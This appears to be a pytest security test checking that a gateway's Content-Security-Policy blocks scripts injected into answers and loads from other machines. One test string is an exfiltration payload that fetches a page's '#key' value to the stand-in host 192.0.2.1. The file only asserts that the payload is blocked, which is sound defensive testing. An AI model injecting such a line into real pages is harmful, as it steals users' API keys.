"""T151: a text that a model or a stranger wrote runs in a user's browser, or loads something from another machine.

`tests/appliance/serve/observation/test_page_in_browser.py` tries the same in a real browser.
"""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from appliance.host.site.api_keys import AccessStore
from appliance.serve.gateway.messages import Plan
from appliance.serve.gateway.routes import Gateway
from appliance.serve.observation.page import PAGES
from tests.attacks.harness import guard_off, row
from tests.toy import NOW

ROW = row(151)
SCRIPTS = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def policy(folder: Path, path: str) -> dict[str, str]:
    """What a browser may do on a page, by the header that comes with it."""
    plan = Plan("toy 1.0.0", "0" * 64, "0" * 64, "0" * 64, str(folder), ())
    with TestClient(Gateway(plan, AccessStore(folder / "access.db"), lambda: NOW).application()) as client:
        header = client.get(path).headers.get("content-security-policy", "")
    return dict(part.split(" ", 1) for part in header.split("; ") if part)


def may_run(rules: dict[str, str], script: str) -> bool:
    """Whether a browser runs a script that stands in the page (CSP Level 3, 6.7.3.3)."""
    allowed = rules.get("script-src", rules.get("default-src", "'unsafe-inline'"))
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    return "'unsafe-inline'" in allowed or f"'sha256-{digest}'" in allowed.split()


def may_load(rules: dict[str, str], kind: str, url: str) -> bool:
    """Whether a browser asks for an address (CSP Level 3, 6.7.2)."""
    allowed = rules.get(f"{kind}-src", rules.get("default-src", "*")).split()
    return "*" in allowed or f"{url.partition(chr(58))[0]}:" in allowed


def test_unattacked_script_of_the_page_itself_runs_and_asks_its_own_gateway(tmp_path: Path) -> None:
    rules = policy(tmp_path, "/")
    [script] = SCRIPTS.findall(PAGES["/"].decode())
    assert may_run(rules, script)
    assert rules["connect-src"] == "'self'"


@pytest.mark.parametrize("path", PAGES)
def test_attacked_by_a_script_in_an_answer(tmp_path: Path, path: str) -> None:
    rules = policy(tmp_path, path)
    assert not may_run(rules, "fetch('http://192.0.2.1/?' + document.querySelector('#key').value)")
    assert "unsafe" not in str(rules)


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("kind", ["img", "connect", "frame", "font", "media", "object", "worker", "manifest"])
def test_attacked_by_a_reference_to_another_machine(tmp_path: Path, path: str, kind: str) -> None:
    assert not may_load(policy(tmp_path, path), kind, "http://192.0.2.1/x")


def test_attacked_by_a_page_of_another_site_that_frames_or_posts(tmp_path: Path) -> None:
    rules = policy(tmp_path, "/")
    assert (rules["frame-ancestors"], rules["form-action"], rules["base-uri"]) == ("'none'",) * 3


def test_unguarded_everything_runs_and_loads(tmp_path: Path) -> None:
    with guard_off(ROW.guard, lambda _path: {}):
        rules = policy(tmp_path, "/")
        assert may_run(rules, "alert(1)")
        assert may_load(rules, "img", "http://192.0.2.1/x")
